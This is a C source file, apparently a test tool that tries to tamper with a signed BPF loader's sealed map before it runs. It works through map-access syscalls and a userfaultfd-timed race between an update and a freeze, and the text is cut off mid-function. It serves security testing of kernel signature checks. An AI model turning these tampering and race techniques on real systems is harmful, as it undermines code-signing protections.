// SPDX-License-Identifier: GPL-2.0-only
/*
 * hornet_attack: try to reach a signed loader's blob map between the
 * loader's BPF_PROG_LOAD and its BPF_PROG_RUN, the window in which a
 * change to the blob would change what the verified loader does.
 *
 *   hornet_attack payload-loader OUT   the loader's payload, to sign
 *   hornet_attack payload-writer OUT   the writer's payload, to sign
 *   hornet_attack payload-dummy OUT    the bind target's payload, to sign
 *   hornet_attack run LOADER_SIG WRITER_SIG DUMMY_SIG [unfrozen]
 *
 * run loads the loader with its blob (signed when LOADER_SIG is not "-"),
 * then tries, printing one line per step as NAME=0 or NAME=-ERRNO:
 *   get_fd_by_id   BPF_MAP_GET_FD_BY_ID on the blob's id
 *   writer         load a second program that writes 0x41 over the blob's
 *                  first eight bytes (signed when WRITER_SIG is not "-"),
 *                  which names the blob as its own fd_array[0], as a
 *                  signed loader does: its signature covers the blob, and
 *                  only the seal can be the reason to refuse it
 *   writer_run     BPF_PROG_TEST_RUN of the writer, when it loaded
 *                  (writer_run=none when it did not)
 *   bind_map       BPF_PROG_BIND_MAP of the blob to a throwaway program
 *                  (signed when DUMMY_SIG is not "-")
 *   map_in_map     BPF_MAP_UPDATE_ELEM that puts the blob into an array of
 *                  maps, where any program using the outer map could
 *                  reach it
 *   iter           BPF_LINK_CREATE of a map element iterator over the
 *                  blob; the iterator program has the throwaway program's
 *                  instructions, so DUMMY_SIG covers it too
 *   update         BPF_MAP_UPDATE_ELEM on the blob through the caller's fd,
 *                  with the blob's first byte changed to 0x42
 *   update_batch   BPF_MAP_UPDATE_BATCH of the same value
 *   obj_get        BPF_OBJ_GET of the blob, pinned by its owner at PIN_PATH
 *                  (the pin itself needs the owner's fd, and is allowed)
 *   mmap_write     a writable shared mmap of the blob: a frozen map refuses
 *                  it first (EPERM), an unfrozen one because a blob is not
 *                  mmapable (EINVAL): a signed load refuses a mmapable blob
 *   freeze         BPF_MAP_FREEZE of the blob, as if to start over: a
 *                  frozen map has no write access left to freeze, so EPERM
 *   run            BPF_PROG_TEST_RUN of the loader
 * and last read=0xN, the blob's first four bytes (little endian) as the
 * loader read them in its run: 0x6e726f68 ("horn") for the blob it was
 * loaded with, 0x41 after the writer, 0x6e726f42 after an update.
 *
 * With "unfrozen" after the signatures, the blob is left writable: the
 * control that shows each step can succeed when nothing protects the blob.
 *
 *   hornet_attack past KIND HISTORY_MODE LOAD_MODE LOADER_SIG WRITER_SIG
 *
 * past gives a blob a history before the signed loader's load: with
 * Hornet's mode set to HISTORY_MODE, the blob (still writable) is
 *   none        left alone (the control)
 *   bound       bound to the writer, loaded unsigned and kept
 *   map_in_map  put in an array of maps
 *   iter        put under a map element iterator (an unsigned program)
 *   bind_map    bound to an unsigned program with BPF_PROG_BIND_MAP
 * and printed as history=0|-ERRNO. The blob is then frozen, the mode set
 * to LOAD_MODE and the loader loaded (loader=0|-ERRNO). When it loads,
 * the writer (if any) runs (writer_run=0|-ERRNO), then the loader, which
 * prints read=0xN as above: 0x41 means the writer changed the signed blob
 * after it was checked.
 *
 *   hornet_attack split LOADER_SIG
 *
 * split loads the loader with its signed blob cut in two 32-byte maps,
 * fd_array_cnt 2, and prints loader=0|-ERRNO and, when it loads, read=.
 *
 *   hornet_attack excl
 *
 * excl shows what a map exclusive to the loader's instructions refuses
 * (cmd_excl), beside the same steps on a plain map.
 *
 *   hornet_attack inflight LOADER_SIG TRIES HITS [exclusive]
 *
 * inflight races BPF_MAP_UPDATE_ELEM of a fresh blob against its
 * BPF_MAP_FREEZE, with the update's value on a userfaultfd page: the
 * update stops in its copy of the value, and stays there until this
 * process answers the fault. A try hits the window when the freeze
 * returned 0 while the update is stopped in its copy (it had passed the
 * frozen check). On each hit, the loader is loaded over the blob
 * (signed by LOADER_SIG), then the fault is answered with "AAAA...", so
 * that the update completes on the frozen map, then the loader runs. It
 * stops after HITS hits or TRIES tries and prints
 *   tries=N writer_first=N freeze_first=N hits=N loaded=N refused_eperm=N
 *   refused_ebusy=N other=N read_attacker=N read_signed=N late_writes=N
 * writer_first and freeze_first count the tries that missed the window
 * (the freeze saw the update in flight and failed with EBUSY; the update
 * saw the map frozen and failed with EPERM), loaded and refused_* the
 * loader's loads on a hit, read_* what its runs read, late_writes the
 * updates that completed on the frozen blob after a hit. Last, as the
 * control, the loader is loaded (as h_inflight_ctl) over a blob frozen
 * with no update in flight, and run: control=ok when it loaded and read
 * the signed blob, else control=-ERRNO or control=bad. With
 * "exclusive", each blob is made exclusive to the loader's instructions
 * (as a light skeleton's is, and as Linux 7.3 requires of a signed
 * program's map).
 *
 *   hornet_attack payload-spawner OUT
 *   hornet_attack spawn SIG|- KEYRING CHILD_MAP RUNS [freeze]
 *
 * spawn loads the spawner, a signed syscall program that, when run,
 * creates an array map and loads a child (a socket filter that names one
 * map) through bpf_sys_bpf(); the child's fd_array names the map the
 * spawner made, or, as if another thread had dup2()ed it in, the fd its
 * context gives. CHILD_MAP picks: own (the run's map), blob (the
 * spawner's own sealed blob) or foreign (a map of this process). KEYRING
 * is the load's keyring_id. With "freeze", the spawner freezes the
 * child's map through bpf_sys_bpf() before loading the child, as a light
 * skeleton's loader freezes .rodata. It prints loader=0|-ERRNO, then for
 * each of RUNS runs
 *   run=N ret=0|-ERRNO child=0|-ERRNO bound=own|blob|foreign|none
 * (ret is BPF_PROG_TEST_RUN's, child the spawner's result: 0 once the
 * child loaded, or the first error it met, bound the map the child uses).
 *
 * The blobs of the signed loaders of run, past, split and spawn are made
 * as the running kernel's signed loads need them (signed_blob.h):
 * exclusive to the loader's instructions where the BPF core checks
 * signatures (Linux 7 and later), ordinary maps elsewhere.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <fcntl.h>
#include <linux/btf.h>
#include <linux/userfaultfd.h>
#include <poll.h>
#include <pthread.h>
#include <stdatomic.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/syscall.h>

#include "blob_map.h"
#include "insn_emit.h"
#include "sha256.h"
#include "signed_blob.h"
#include "../btf_walk.h"

#define PIN_PATH	"/sys/fs/bpf/hornet_attack_blob"
#define BLOB_SIZE	64

/* r1 = &blob[0] (fd_array[0]); return *(u32 *)r1 */
static const struct bpf_insn loader_insns[] = {
	{ .code = BPF_LD | BPF_DW | BPF_IMM, .dst_reg = BPF_REG_1,
	  .src_reg = BPF_PSEUDO_MAP_IDX_VALUE, .imm = 0 },
	{ 0 },
	{ .code = BPF_LDX | BPF_MEM | BPF_W, .dst_reg = BPF_REG_0, .src_reg = BPF_REG_1 },
	{ .code = BPF_JMP | BPF_EXIT },
};
#define LOADER_INSN_CNT	(sizeof(loader_insns) / sizeof(loader_insns[0]))

/* The bind target and the iterator: return 0 */
static const struct bpf_insn dummy_insns[] = {
	{ .code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = BPF_REG_0 },
	{ .code = BPF_JMP | BPF_EXIT },
};

/* r1 = &blob[0] (fd_array[0]); *(u64 *)r1 = 0x41; return 0 */
static const struct bpf_insn writer_insns[] = {
	{ .code = BPF_LD | BPF_DW | BPF_IMM, .dst_reg = BPF_REG_1,
	  .src_reg = BPF_PSEUDO_MAP_IDX_VALUE, .imm = 0 },
	{ 0 },
	{ .code = BPF_ST | BPF_MEM | BPF_DW, .dst_reg = BPF_REG_1, .imm = 0x41 },
	{ .code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = BPF_REG_0 },
	{ .code = BPF_JMP | BPF_EXIT },
};

static uint8_t blob[BLOB_SIZE] = "hornet attack test blob";

static void die(const char *what)
{
	fprintf(stderr, "hornet_attack: %s: %s\n", what, strerror(errno));
	exit(1);
}

static void write_file(const char *path, const void *a, size_t alen,
		       const void *b, size_t blen)
{
	FILE *f = fopen(path, "wb");

	if (!f || fwrite(a, alen, 1, f) != 1 ||
	    (blen && fwrite(b, blen, 1, f) != 1) || fclose(f))
		die(path);
}

static size_t read_sig(const char *path, uint8_t *buf, size_t size)
{
	long n = sig_file_read(path, buf, size);

	if (n < 0) {
		errno = -n;
		die(path);
	}
	return n;
}

/* keyring_id of the signed loads load() makes. */
static int32_t load_keyring;

static int load(const char *name, const struct bpf_insn *insns, size_t cnt,
		int *fd_array, uint32_t fd_cnt, const uint8_t *sig,
		size_t sig_len)
{
	union bpf_attr attr;
	int fd;

	memset(&attr, 0, sizeof(attr));
	attr.prog_type = BPF_PROG_TYPE_SYSCALL;
	attr.insns = (uintptr_t)insns;
	attr.insn_cnt = cnt;
	attr.license = (uintptr_t)"GPL";
	attr.prog_flags = BPF_F_SLEEPABLE;
	strncpy(attr.prog_name, name, sizeof(attr.prog_name) - 1);
	attr.fd_array = (uintptr_t)fd_array;
	attr.fd_array_cnt = fd_cnt;
	if (sig_len) {
		attr.signature = (uintptr_t)sig;
		attr.signature_size = sig_len;
		attr.keyring_id = load_keyring;
	}
	fd = blob_sys_bpf(BPF_PROG_LOAD, &attr);
	return fd < 0 ? -errno : fd;
}

static void report(const char *step, int ret)
{
	printf("%s=%d\n", step, ret < 0 ? ret : 0);
}

/* The BTF id of the function NAME in the kernel's BTF, or 0. */
static uint32_t vmlinux_func_id(const char *name)
{
	static uint8_t data[64 << 20];
	const struct btf_header *h = (const void *)data;
	size_t size = 0, off;
	uint32_t id = 1;
	ssize_t n;
	int fd = open("/sys/kernel/btf/vmlinux", O_RDONLY);

	if (fd < 0)
		die("/sys/kernel/btf/vmlinux");
	while ((n = read(fd, data + size, sizeof(data) - size)) > 0)
		size += (size_t)n;
	close(fd);
	if (size < sizeof(*h) || h->magic != BTF_MAGIC)
		return 0;
	for (off = 0; off < h->type_len; id++) {
		const struct btf_type *t = (const void *)(data + h->hdr_len + h->type_off + off);
		size_t extra = btf_type_extra(t);

		if (extra == SIZE_MAX)
			return 0;
		if (BTF_INFO_KIND(t->info) == BTF_KIND_FUNC &&
		    !strcmp((const char *)data + h->hdr_len + h->str_off + t->name_off, name))
			return id;
		off += sizeof(*t) + extra;
	}
	return 0;
}

/*
 * Load a map element iterator program (signed by SIG when SIG_LEN) and
 * attach it to MAP_FD's map. Returns 0 once attached, -errno of the attach,
 * or exits when the program cannot be loaded.
 */
static int attach_map_iter(int map_fd, const uint8_t *sig, size_t sig_len)
{
	union bpf_iter_link_info linfo;
	union bpf_attr attr;
	int prog_fd, link_fd;
	uint32_t btf_id = vmlinux_func_id("bpf_iter_bpf_map_elem");

	if (!btf_id) {
		errno = ENOENT;
		die("BTF id of bpf_iter_bpf_map_elem");
	}
	memset(&attr, 0, sizeof(attr));
	attr.prog_type = BPF_PROG_TYPE_TRACING;
	attr.expected_attach_type = BPF_TRACE_ITER;
	attr.attach_btf_id = btf_id;
	attr.insns = (uintptr_t)dummy_insns;
	attr.insn_cnt = 2;
	attr.license = (uintptr_t)"GPL";
	strcpy(attr.prog_name, "h_atk_iter");
	if (sig_len) {
		attr.signature = (uintptr_t)sig;
		attr.signature_size = sig_len;
	}
	prog_fd = blob_sys_bpf(BPF_PROG_LOAD, &attr);
	if (prog_fd < 0)
		die("loading the iterator program");

	memset(&linfo, 0, sizeof(linfo));
	linfo.map.map_fd = (uint32_t)map_fd;
	memset(&attr, 0, sizeof(attr));
	attr.link_create.prog_fd = (uint32_t)prog_fd;
	attr.link_create.attach_type = BPF_TRACE_ITER;
	attr.link_create.iter_info = (uintptr_t)&linfo;
	attr.link_create.iter_info_len = sizeof(linfo);
	link_fd = blob_sys_bpf(BPF_LINK_CREATE, &attr);
	if (link_fd < 0)
		return -errno;
	close(link_fd);
	close(prog_fd);
	return 0;
}

/*
 * A one-slot array of maps whose inner maps are shaped after TEMPLATE_FD's
 * map. Returns its fd, or -errno.
 */
static int map_of_maps_create(int template_fd)
{
	union bpf_attr attr;
	int fd;

	memset(&attr, 0, sizeof(attr));
	attr.map_type = BPF_MAP_TYPE_ARRAY_OF_MAPS;
	attr.key_size = sizeof(uint32_t);
	attr.value_size = sizeof(uint32_t);
	attr.max_entries = 1;
	attr.inner_map_fd = (uint32_t)template_fd;
	strcpy(attr.map_name, "attack_outer");
	fd = blob_sys_bpf(BPF_MAP_CREATE, &attr);
	return fd < 0 ? -errno : fd;
}

/*
 * Make an array of maps shaped after TEMPLATE_FD's map and put MAP_FD's map
 * in its slot 0. Returns 0, or -errno of the insertion.
 */
static int put_in_map_of_maps_after(int template_fd, int map_fd)
{
	union bpf_attr attr;
	uint32_t key = 0, value = (uint32_t)map_fd;
	int outer, err;

	outer = map_of_maps_create(template_fd);
	if (outer < 0) {
		errno = -outer;
		die("BPF_MAP_CREATE of an array of maps");
	}

	memset(&attr, 0, sizeof(attr));
	attr.map_fd = (uint32_t)outer;
	attr.key = (uintptr_t)&key;
	attr.value = (uintptr_t)&value;
	err = blob_sys_bpf(BPF_MAP_UPDATE_ELEM, &attr) ? -errno : 0;
	close(outer);
	return err;
}

/*
 * Put MAP_FD's map (a BLOB_SIZE blob) in an array of maps shaped after a
 * plain map of its shape: an exclusive map cannot be the template
 * (ENOTSUPP), and only the insertion gives a program that uses the outer
 * map a way to the blob.
 */
static int put_in_map_of_maps(int map_fd)
{
	int tmpl_fd = blob_map_create("attack_tmpl", blob, BLOB_SIZE, false);
	int err;

	if (tmpl_fd < 0) {
		errno = -tmpl_fd;
		die("the template of an array of maps");
	}
	err = put_in_map_of_maps_after(tmpl_fd, map_fd);
	close(tmpl_fd);
	return err;
}

static int cmd_run(const char *loader_sig_path, const char *writer_sig_path,
		   const char *dummy_sig_path, bool freeze)
{
	static uint8_t loader_sig[65536], writer_sig[65536], dummy_sig[65536];
	size_t loader_sig_len, writer_sig_len, dummy_sig_len;
	struct bpf_map_info info;
	union bpf_attr attr;
	int blob_fd, loader_fd, fd, dummy_fd;
	uint8_t changed[BLOB_SIZE];
	uint32_t key = 0;
	void *mem;

	loader_sig_len = read_sig(loader_sig_path, loader_sig, sizeof(loader_sig));
	writer_sig_len = read_sig(writer_sig_path, writer_sig, sizeof(writer_sig));
	dummy_sig_len = read_sig(dummy_sig_path, dummy_sig, sizeof(dummy_sig));

	blob_fd = signed_blob_create("attack_blob", loader_insns, LOADER_INSN_CNT,
				     blob, BLOB_SIZE, freeze);
	if (blob_fd < 0) {
		errno = -blob_fd;
		die("blob map");
	}
	loader_fd = load("h_atk_loader", loader_insns, 4, &blob_fd, 1,
			 loader_sig, loader_sig_len);
	report("loader", loader_fd);
	if (loader_fd < 0)
		return 0;

	memset(&info, 0, sizeof(info));
	memset(&attr, 0, sizeof(attr));
	attr.info.bpf_fd = blob_fd;
	attr.info.info_len = sizeof(info);
	attr.info.info = (uintptr_t)&info;
	if (blob_sys_bpf(BPF_OBJ_GET_INFO_BY_FD, &attr))
		die("BPF_OBJ_GET_INFO_BY_FD");

	memset(&attr, 0, sizeof(attr));
	attr.map_id = info.id;
	fd = blob_sys_bpf(BPF_MAP_GET_FD_BY_ID, &attr);
	report("get_fd_by_id", fd < 0 ? -errno : fd);

	fd = load("h_atk_writer", writer_insns, 5, &blob_fd, 1, writer_sig,
		  writer_sig_len);
	report("writer", fd);
	if (fd >= 0) {
		int prog_fd = fd;

		memset(&attr, 0, sizeof(attr));
		attr.test.prog_fd = prog_fd;
		fd = blob_sys_bpf(BPF_PROG_TEST_RUN, &attr);
		report("writer_run", fd < 0 ? -errno : (int)attr.test.retval);
		close(prog_fd);
	} else {
		printf("writer_run=none\n");
	}

	dummy_fd = load("h_atk_dummy", dummy_insns, 2, NULL, 0, dummy_sig,
			dummy_sig_len);
	if (dummy_fd >= 0) {
		memset(&attr, 0, sizeof(attr));
		attr.prog_bind_map.prog_fd = dummy_fd;
		attr.prog_bind_map.map_fd = blob_fd;
		fd = blob_sys_bpf(BPF_PROG_BIND_MAP, &attr);
		report("bind_map", fd < 0 ? -errno : 0);
	} else {
		report("bind_map_setup", dummy_fd);
	}

	report("map_in_map", put_in_map_of_maps(blob_fd));
	report("iter", attach_map_iter(blob_fd, dummy_sig, dummy_sig_len));

	memcpy(changed, blob, sizeof(changed));
	changed[0] = 0x42;
	memset(&attr, 0, sizeof(attr));
	attr.map_fd = blob_fd;
	attr.key = (uintptr_t)&key;
	attr.value = (uintptr_t)changed;
	fd = blob_sys_bpf(BPF_MAP_UPDATE_ELEM, &attr);
	report("update", fd < 0 ? -errno : 0);

	memset(&attr, 0, sizeof(attr));
	attr.batch.map_fd = blob_fd;
	attr.batch.keys = (uintptr_t)&key;
	attr.batch.values = (uintptr_t)changed;
	attr.batch.count = 1;
	fd = blob_sys_bpf(BPF_MAP_UPDATE_BATCH, &attr);
	report("update_batch", fd < 0 ? -errno : 0);

	unlink(PIN_PATH);
	memset(&attr, 0, sizeof(attr));
	attr.bpf_fd = blob_fd;
	attr.pathname = (uintptr_t)PIN_PATH;
	if (blob_sys_bpf(BPF_OBJ_PIN, &attr))
		die("BPF_OBJ_PIN");
	memset(&attr, 0, sizeof(attr));
	attr.pathname = (uintptr_t)PIN_PATH;
	fd = blob_sys_bpf(BPF_OBJ_GET, &attr);
	report("obj_get", fd < 0 ? -errno : fd);
	unlink(PIN_PATH);

	mem = mmap(NULL, sysconf(_SC_PAGESIZE), PROT_READ | PROT_WRITE,
		   MAP_SHARED, blob_fd, 0);
	report("mmap_write", mem == MAP_FAILED ? -errno : 0);
	if (mem != MAP_FAILED)
		munmap(mem, sysconf(_SC_PAGESIZE));

	memset(&attr, 0, sizeof(attr));
	attr.map_fd = blob_fd;
	fd = blob_sys_bpf(BPF_MAP_FREEZE, &attr);
	report("freeze", fd < 0 ? -errno : 0);

	memset(&attr, 0, sizeof(attr));
	attr.test.prog_fd = loader_fd;
	fd = blob_sys_bpf(BPF_PROG_TEST_RUN, &attr);
	report("run", fd < 0 ? -errno : 0);
	if (fd >= 0)
		printf("read=0x%x\n", attr.test.retval);
	return 0;
}

/*
 * BPF_PROG_TEST_RUN of PROG_FD with CTX. Returns 0 and sets *RETVAL to
 * what the program returned, or returns -errno of the syscall.
 */
static int test_run(int prog_fd, void *ctx, uint32_t ctx_size, int32_t *retval)
{
	union bpf_attr attr;

	memset(&attr, 0, sizeof(attr));
	attr.test.prog_fd = prog_fd;
	attr.test.ctx_in = (uintptr_t)ctx;
	attr.test.ctx_size_in = ctx_size;
	if (blob_sys_bpf(BPF_PROG_TEST_RUN, &attr))
		return -errno;
	*retval = (int32_t)attr.test.retval;
	return 0;
}

/* test_run() without a context; prints run=-ERRNO or read=0xN. */
static void run_and_read(int prog_fd)
{
	int32_t retval;
	int err = test_run(prog_fd, NULL, 0, &retval);

	if (err)
		report("run", err);
	else
		printf("read=0x%x\n", (uint32_t)retval);
}

/* The id of the map or program behind FD. */
static uint32_t obj_id(int fd, bool prog, uint32_t *first_map)
{
	struct bpf_prog_info pinfo;
	struct bpf_map_info minfo;
	union bpf_attr attr;
	uint32_t ids[4] = { 0 };

	memset(&attr, 0, sizeof(attr));
	attr.info.bpf_fd = fd;
	if (prog) {
		memset(&pinfo, 0, sizeof(pinfo));
		pinfo.nr_map_ids = 4;
		pinfo.map_ids = (uintptr_t)ids;
		attr.info.info_len = sizeof(pinfo);
		attr.info.info = (uintptr_t)&pinfo;
	} else {
		memset(&minfo, 0, sizeof(minfo));
		attr.info.info_len = sizeof(minfo);
		attr.info.info = (uintptr_t)&minfo;
	}
	if (blob_sys_bpf(BPF_OBJ_GET_INFO_BY_FD, &attr))
		die("BPF_OBJ_GET_INFO_BY_FD");
	if (first_map)
		*first_map = prog && pinfo.nr_map_ids ? ids[0] : 0;
	return prog ? pinfo.id : minfo.id;
}

static void set_mode(const char *mode)
{
	int fd = open("/sys/kernel/security/hornet/mode", O_WRONLY);

	if (fd < 0 || write(fd, mode, strlen(mode)) < 0)
		die("writing Hornet's mode");
	close(fd);
}

static int freeze(int map_fd)
{
	union bpf_attr attr;

	memset(&attr, 0, sizeof(attr));
	attr.map_fd = map_fd;
	return blob_sys_bpf(BPF_MAP_FREEZE, &attr) ? -errno : 0;
}

static int cmd_past(const char *kind, const char *history_mode,
		    const char *load_mode, const char *loader_sig_path,
		    const char *writer_sig_path)
{
	static uint8_t loader_sig[65536], writer_sig[65536];
	size_t loader_sig_len, writer_sig_len;
	int blob_fd, loader_fd, writer_fd = -1, dummy_fd, history = 0;
	union bpf_attr attr;
	int32_t retval;

	loader_sig_len = read_sig(loader_sig_path, loader_sig, sizeof(loader_sig));
	writer_sig_len = read_sig(writer_sig_path, writer_sig, sizeof(writer_sig));
	blob_fd = signed_blob_create("past_blob", loader_insns, LOADER_INSN_CNT,
				     blob, BLOB_SIZE, false);
	if (blob_fd < 0) {
		errno = -blob_fd;
		die("blob map");
	}

	set_mode(history_mode);
	if (!strcmp(kind, "bound")) {
		writer_fd = load("h_past_writer", writer_insns, 5, &blob_fd, 1,
				 writer_sig, writer_sig_len);
		history = writer_fd < 0 ? writer_fd : 0;
	} else if (!strcmp(kind, "map_in_map")) {
		history = put_in_map_of_maps(blob_fd);
	} else if (!strcmp(kind, "iter")) {
		history = attach_map_iter(blob_fd, NULL, 0);
	} else if (!strcmp(kind, "bind_map")) {
		dummy_fd = load("h_past_dummy", dummy_insns, 2, NULL, 0, NULL, 0);
		if (dummy_fd < 0) {
			history = dummy_fd;
		} else {
			memset(&attr, 0, sizeof(attr));
			attr.prog_bind_map.prog_fd = dummy_fd;
			attr.prog_bind_map.map_fd = blob_fd;
			history = blob_sys_bpf(BPF_PROG_BIND_MAP, &attr) ?
				  -errno : 0;
		}
	} else if (strcmp(kind, "none")) {
		fprintf(stderr, "hornet_attack: unknown history '%s'\n", kind);
		exit(2);
	}
	report("history", history);
	if (freeze(blob_fd))
		die("BPF_MAP_FREEZE of the blob");

	set_mode(load_mode);
	loader_fd = load("h_past_loader", loader_insns, 4, &blob_fd, 1,
			 loader_sig, loader_sig_len);
	report("loader", loader_fd);
	if (loader_fd < 0)
		return 0;
	if (writer_fd >= 0)
		report("writer_run", test_run(writer_fd, NULL, 0, &retval));
	run_and_read(loader_fd);
	return 0;
}

/*
 * The loader's signed blob split over two frozen maps of 32 bytes each:
 * the payload (instructions, then both values) is the signed one, the
 * boundary between the maps the caller's choice.
 */
static int cmd_split(const char *loader_sig_path)
{
	static uint8_t sig[65536];
	size_t sig_len = read_sig(loader_sig_path, sig, sizeof(sig));
	int fds[2], loader_fd;

	fds[0] = signed_blob_create("split_a", loader_insns, LOADER_INSN_CNT,
				    blob, BLOB_SIZE / 2, true);
	fds[1] = signed_blob_create("split_b", loader_insns, LOADER_INSN_CNT,
				    blob + BLOB_SIZE / 2, BLOB_SIZE / 2, true);
	if (fds[0] < 0 || fds[1] < 0) {
		errno = fds[0] < 0 ? -fds[0] : -fds[1];
		die("split maps");
	}
	loader_fd = load("h_split", loader_insns, 4, fds, 2, sig, sig_len);
	report("loader", loader_fd);
	if (loader_fd >= 0)
		run_and_read(loader_fd);
	return 0;
}

/* --- inflight ------------------------------------------------------------ */

/* The writer thread's side of one try. */
static struct {
	int map_fd;
	uint8_t *value;		/* on the userfaultfd page */
	atomic_int go;		/* the try to start, -1 to stop */
	atomic_int done;	/* the last try whose update returned */
	atomic_int spin;	/* how long to wait before the update */
	int ret;
} inflight;

/* How far, in spins, each try strays from the last boundary seen. */
#define INFLIGHT_JITTER	8
/*
 * How far the boundary may drift before the search starts again from 0:
 * when the host deschedules a vCPU, one side comes first whatever the
 * delay, and the delay would otherwise run away.
 */
#define INFLIGHT_BIAS_MAX	256

static void spin_for(int n)
{
	for (volatile int i = 0; i < n; i++)
		;
}

static void *inflight_writer(void *unused)
{
	union bpf_attr attr;
	uint32_t key = 0;
	int seen = 0, t;

	(void)unused;
	for (;;) {
		while ((t = atomic_load(&inflight.go)) == seen)
			;
		if (t < 0)
			return NULL;
		seen = t;
		spin_for(atomic_load(&inflight.spin));
		memset(&attr, 0, sizeof(attr));
		attr.map_fd = inflight.map_fd;
		attr.key = (uintptr_t)&key;
		attr.value = (uintptr_t)inflight.value;
		inflight.ret = blob_sys_bpf(BPF_MAP_UPDATE_ELEM, &attr) ? -errno : 0;
		atomic_store(&inflight.done, t);
	}
}

/* Answer the fault on the value page with a page of FILL bytes. */
static void uffd_answer(int uffd, uint8_t *page, long pagesz, int fill)
{
	static uint8_t src[65536];
	struct uffdio_copy copy;

	memset(src, fill, pagesz);
	memset(&copy, 0, sizeof(copy));
	copy.dst = (uintptr_t)page;
	copy.src = (uintptr_t)src;
	copy.len = pagesz;
	if (ioctl(uffd, UFFDIO_COPY, &copy))
		die("UFFDIO_COPY");
}

/*
 * Make PAGE a new, empty page whose first touch faults to UFFD (the tiny
 * kernel has no madvise()): map it again in place and register it.
 */
static void uffd_fresh_page(int uffd, uint8_t *page, long pagesz)
{
	struct uffdio_register reg;

	if (mmap(page, pagesz, PROT_READ | PROT_WRITE,
		 MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0) != page)
		die("mmap of the value page");
	memset(&reg, 0, sizeof(reg));
	reg.range.start = (uintptr_t)page;
	reg.range.len = pagesz;
	reg.mode = UFFDIO_REGISTER_MODE_MISSING;
	if (ioctl(uffd, UFFDIO_REGISTER, &reg))
		die("UFFDIO_REGISTER");
}

/*
 * Wait until the writer's update of try T returned, or a fault on the
 * value page stopped it in its copy. Returns 1 for a fault, 0 for a
 * return; exits when neither comes within ten seconds.
 */
static int inflight_settle(int uffd, int t)
{
	struct uffd_msg msg;
	struct pollfd pfd = { .fd = uffd, .events = POLLIN };

	/*
	 * Sleep between looks: a vCPU that spins here takes host time from
	 * the one the two calls race on, and the window is a few
	 * instructions wide.
	 */
	for (int ms = 0; ms < 10000; ms++) {
		if (atomic_load(&inflight.done) == t)
			return 0;
		if (poll(&pfd, 1, 1) == 1) {
			if (read(uffd, &msg, sizeof(msg)) != sizeof(msg) ||
			    msg.event != UFFD_EVENT_PAGEFAULT)
				die("reading the userfaultfd");
			return 1;
		}
	}
	fprintf(stderr, "hornet_attack: try %d: the update neither returned nor faulted\n", t);
	exit(1);
}

/* The control of inflight: the same load over a blob with no write in flight. */
static void inflight_control(const uint8_t *sig, size_t sig_len,
			     const uint8_t *excl)
{
	int blob_fd, loader_fd;
	int32_t retval;

	blob_fd = blob_map_create_excl("inflight_blob", blob, BLOB_SIZE, true, 0, excl);
	if (blob_fd < 0) {
		errno = -blob_fd;
		die("control blob map");
	}
	loader_fd = load("h_inflight_ctl", loader_insns, 4, &blob_fd, 1, sig, sig_len);
	if (loader_fd < 0) {
		printf(" control=%d\n", loader_fd);
	} else {
		if (test_run(loader_fd, NULL, 0, &retval))
			die("BPF_PROG_TEST_RUN of the control loader");
		printf(" control=%s\n", retval == 0x6e726f68 ? "ok" : "bad");
		close(loader_fd);
	}
	close(blob_fd);
}

static int cmd_inflight(const char *loader_sig_path, int tries, int want,
			bool exclusive)
{
	static uint8_t loader_sig[65536];
	uint8_t excl[SHA256_DIGEST_BYTES];
	int hits = 0, loaded = 0, refused = 0, busy = 0, other = 0, late = 0;
	int read_attacker = 0, read_signed = 0, bias = 0, t, d;
	int writer_first = 0, freeze_first = 0;

	long pagesz = sysconf(_SC_PAGESIZE);
	struct uffdio_api api;
	size_t loader_sig_len;
	pthread_t thread;
	uint8_t *page;
	int uffd;

	loader_sig_len = read_sig(loader_sig_path, loader_sig, sizeof(loader_sig));
	uffd = syscall(__NR_userfaultfd, O_CLOEXEC | O_NONBLOCK);
	if (uffd < 0)
		die("userfaultfd");
	memset(&api, 0, sizeof(api));
	api.api = UFFD_API;
	if (ioctl(uffd, UFFDIO_API, &api))
		die("UFFDIO_API");
	page = mmap(NULL, pagesz, PROT_READ | PROT_WRITE,
		    MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (page == MAP_FAILED)
		die("mmap");
	inflight.value = page;
	if (pthread_create(&thread, NULL, inflight_writer, NULL))
		die("pthread_create");
	sha256_digest(loader_insns, sizeof(loader_insns), excl);

	for (t = 1; t <= tries && hits < want; t++) {
		int blob_fd, fr, faulted, loader_fd;
		int32_t retval;

		blob_fd = blob_map_create_excl("inflight_blob", blob, BLOB_SIZE, false, 0,
					       exclusive ? excl : NULL);
		if (blob_fd < 0) {
			errno = -blob_fd;
			die("blob map");
		}
		uffd_fresh_page(uffd, page, pagesz);
		inflight.map_fd = blob_fd;
		/*
		 * The two calls start together; whichever came first last
		 * time starts a little later this time, so that the tries
		 * gather at the boundary between "the update came first"
		 * and "the freeze came first", which is the window, and
		 * spread around it a little.
		 */
		d = bias + rand() % (2 * INFLIGHT_JITTER + 1) - INFLIGHT_JITTER;
		atomic_store(&inflight.spin, d > 0 ? d : 0);
		atomic_store(&inflight.go, t);
		spin_for(d < 0 ? -d : 0);
		fr = freeze(blob_fd);
		faulted = inflight_settle(uffd, t);

		if (faulted && fr == 0) {
			hits++;
			loader_fd = load("h_inflight", loader_insns, 4, &blob_fd, 1,
					 loader_sig, loader_sig_len);
			if (loader_fd >= 0)
				loaded++;
			else if (loader_fd == -EPERM)
				refused++;
			else if (loader_fd == -EBUSY)
				busy++;
			else
				other++;
			uffd_answer(uffd, page, pagesz, 'A');
			while (atomic_load(&inflight.done) != t)
				;
			if (inflight.ret == 0)
				late++;
			if (loader_fd >= 0) {
				if (test_run(loader_fd, NULL, 0, &retval))
					die("BPF_PROG_TEST_RUN of the loader");
				if (retval == 0x41414141)
					read_attacker++;
				else if (retval == 0x6e726f68)
					read_signed++;
				close(loader_fd);
			}
		} else if (faulted) {
			/* The update came first: the freeze found it in flight. */
			if (fr != -EBUSY) {
				fprintf(stderr, "hornet_attack: try %d: freeze=%d with the update in flight\n",
					t, fr);
				exit(1);
			}
			bias = bias < INFLIGHT_BIAS_MAX ? bias + 1 : 0;
			writer_first++;
			uffd_answer(uffd, page, pagesz, 'h');
